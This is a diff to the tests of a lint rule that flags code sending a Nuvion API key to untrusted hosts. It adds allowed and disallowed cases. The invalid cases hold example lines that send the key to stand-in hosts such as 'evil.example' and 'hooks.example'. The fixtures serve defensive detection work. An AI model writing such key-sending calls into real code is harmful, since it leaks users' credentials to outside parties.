@@ -10,6 +10,8 @@ testRule('no-key-to-untrusted-host', {
     { code: "fetch('https://proxy.example.com', { headers: { Authorization: nuvionKey } })", settings: { hosts: ['proxy.example.com'] } },
     "fetch('https://api.example.com', { headers: { Authorization: `Bearer ${apiKey}` } }) // nuvion elsewhere",
     "fetch(url, { headers: { Authorization: nuvionKey } })",
+    "axios.post('https://api.nuvion.co/x', { nuvionKey })",
+    "axios.post('https://hooks.example/x', { text: 'NUVION_API_KEY was rotated' })",
   ],
   invalid: [
     { code: "fetch('https://evil.example', { headers: { Authorization: nuvionKey } })", errors: ['foreign:1'] },
@@ -19,5 +21,6 @@ testRule('no-key-to-untrusted-host', {
       errors: ['plain:1'],
       suggestions: [[{ messageId: 'https', output: "fetch('https://api.nuvion.co/x', { headers: { Authorization: `Bearer ${nuvionKey}` } })" }]],
     },
+    { code: "axios.post('https://hooks.example/x', { text: `new key ${process.env.NUVION_API_KEY}` })", errors: ['foreign:1'] },
   ],
 })
